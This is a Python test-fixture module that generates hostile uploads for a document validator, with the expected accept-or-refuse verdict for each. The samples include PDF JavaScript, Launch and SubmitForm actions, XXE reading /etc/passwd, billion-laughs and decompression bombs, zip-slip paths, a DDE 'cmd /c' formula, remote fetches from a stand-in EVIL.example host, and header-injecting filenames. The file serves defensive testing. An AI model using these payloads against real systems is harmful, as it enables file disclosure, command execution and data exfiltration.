"""Papers that nobody sends in good faith, and names of files that lead elsewhere (`tests.hostile_files`)."""

import io
import zlib
from collections.abc import Iterator

import pikepdf

from tests.hostile_files import READY, REFUSED, SCRIPT, SVG, Hostile, jpeg
from tests.office_files import DOCM, OFFICE, docx, odt, relation, xlsx, zipped


def pdf(change=lambda made: None, **options: object) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, **options)
    return out.getvalue()


def acting(kind: str, **more: object):
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)

    return change


def hold_file(made: pikepdf.Pdf) -> None:
    made.attachments["EVIL.exe"] = b"MZEVIL"


def hold_photo(made: pikepdf.Pdf) -> None:
    photo = made.make_stream(jpeg(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=320, Height=240)
    photo.Filter, photo.ColorSpace, photo.BitsPerComponent = pikepdf.Name.DCTDecode, pikepdf.Name.DeviceRGB, 8
    made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))


def hold_bomb(made: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(300 * 1024 * 1024), 9)
    made.pages[0].Contents = pikepdf.Stream(made, packed, Filter=pikepdf.Name.FlateDecode)


def papers() -> Iterator[Hostile]:
    """What is sent as a paper: `READY` when it is taken, made safe."""
    template = relation("rId1", "attachedTemplate", "https://EVIL.example/t.dotm", outside=True)
    settings = f'<w:settings xmlns:w="urn:w" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    with_template = docx(
        rows=(relation("r9", "settings", "settings.xml"),),
        **{"word/settings.xml": settings, "word/_rels/settings.xml.rels": f"<Relationships>{template}</Relationships>"},
    )
    locked = pikepdf.Encryption(owner="geheim", user="geheim")
    for name, data, verdict in (
        ("nothing", b"", REFUSED),
        ("text", b"EVIL", REFUSED),
        ("html", b"<html>" + SCRIPT, REFUSED),
        ("svg", SVG, REFUSED),
        ("exe", b"MZ" + bytes(500), REFUSED),
        ("photo", jpeg(), REFUSED),
        ("old word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999), REFUSED),
        ("rtf", b"{\\rtf1 {\\object EVIL}}", REFUSED),
        ("html before a pdf", SCRIPT + pdf(), REFUSED),
        ("html that begins as a pdf", b"%PDF-1.7\n" + SCRIPT, REFUSED),
        ("html after a pdf", pdf() + SCRIPT, READY),
        ("pdf with script", pdf(acting("JavaScript", JS="EVIL()")), READY),
        ("pdf that starts a program", pdf(acting("Launch", F="EVIL.exe")), READY),
        ("pdf that sends a form", pdf(acting("SubmitForm", F="https://EVIL.example")), READY),
        ("pdf with a file", pdf(hold_file), READY),
        ("pdf with a photo", pdf(hold_photo), READY),
        ("pdf that unpacks to 300 MB", pdf(hold_bomb), READY),
        ("pdf with a password", pdf(encryption=locked), REFUSED),
        ("half a pdf", pdf()[:200], REFUSED),
        ("pdf of 100,000 lists in lists", b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000, REFUSED),
        (
            "pdf whose pages are their own parents",
            pdf().replace(b"/Kids [ ", b"/Kids [ 2 0 R ").replace(b"/Kids [", b"/Kids [1 0 R "),
            REFUSED,
        ),
        ("zip", zipped({"EVIL.html": SCRIPT}), REFUSED),
        ("zip in a zip", zipped({"word/document.xml": zipped(docx())}), REFUSED),
        ("zip that leads elsewhere", zipped(docx(**{"../../EVIL": "x"})), REFUSED),
        ("zip with a name of Windows", zipped(docx(**{"..\\EVIL": "x"})), REFUSED),
        ("zip with a name twice", zipped(docx(**{"WORD/document.xml": "x"})), REFUSED),
        ("half a docx", zipped(docx())[:900], REFUSED),
        ("docx that unpacks to 200 MB", zipped(docx(**{"word/media/image1.jpeg": bytes(200 * 1024 * 1024)})), REFUSED),
        ("docx of a billion laughs", zipped(docx(**{"word/document.xml": laughs()})), REFUSED),
        (
            "docx that reads a file",
            zipped(docx(**{"word/document.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'})),
            REFUSED,
        ),
        (
            "docx of 100,000 tags in tags",
            zipped(docx(**{"word/document.xml": "<a>" * 100_000 + "</a>" * 100_000})),
            REFUSED,
        ),
        ("docm called docx", zipped(docx(main=DOCM)), REFUSED),
        ("docx with a template", zipped(with_template), READY),
        (
            "docx with macros",
            zipped(docx(rows=(relation("r", "vbaProject", "vbaProject.bin"),), **{"word/vbaProject.bin": b"EVIL"})),
            REFUSED,
        ),
        (
            "docx with a file in it",
            zipped(docx(rows=(relation("r", "oleObject", "o.bin"),), **{"word/o.bin": b"EVIL"})),
            REFUSED,
        ),
        ("docx with macros that nothing names", zipped(docx(**{"word/vbaProject.bin": b"EVIL"})), READY),
        (
            "docx that fetches a picture",
            zipped(docx(rows=(relation("r", "image", "https://EVIL.example/p", outside=True),))),
            REFUSED,
        ),
        ("docx with a photo", zipped(docx()), READY),
        ("docx before which there is html", SCRIPT + zipped(docx()), REFUSED),
        ("xlsx that asks another program", zipped(xlsx("cmd|'/c EVIL'!A0")), REFUSED),
        ("xlsx that fetches", zipped(xlsx('_xlfn.WEBSERVICE("https://EVIL.example")')), REFUSED),
        (
            "xlsx with links",
            zipped(xlsx(rows=(relation("r", "externalLink", "e.xml"),), **{"xl/e.xml": "<e/>"})),
            REFUSED,
        ),
        ("odt with macros", zipped(odt(**{"Basic/Standard/EVIL.xml": "<x/>"})), REFUSED),
        ("odt", zipped(odt()), READY),
        ("odt that fetches", zipped(odt('<draw:image xlink:href="https://EVIL.example/x.png"/>')), REFUSED),
    ):
        yield Hostile(name, data, verdict)


def laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><x>&l9;</x>'


NAMES = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "a\0b.jpg", "a\r\nSet-Cookie: EVIL=1.jpg", "foto\u202egpj.exe",
    "x" * 5_000 + ".jpg", "", ".", "..", "/", ".htaccess", "<script>.jpg", "a.jpg.exe", "\ud83d\ude00.jpg".encode(
        "utf-16", "surrogatepass").decode("utf-16"), "COM1", "\u0000\u0001\u0002", "a\"; filename=\"b.exe",
]  # fmt: skip
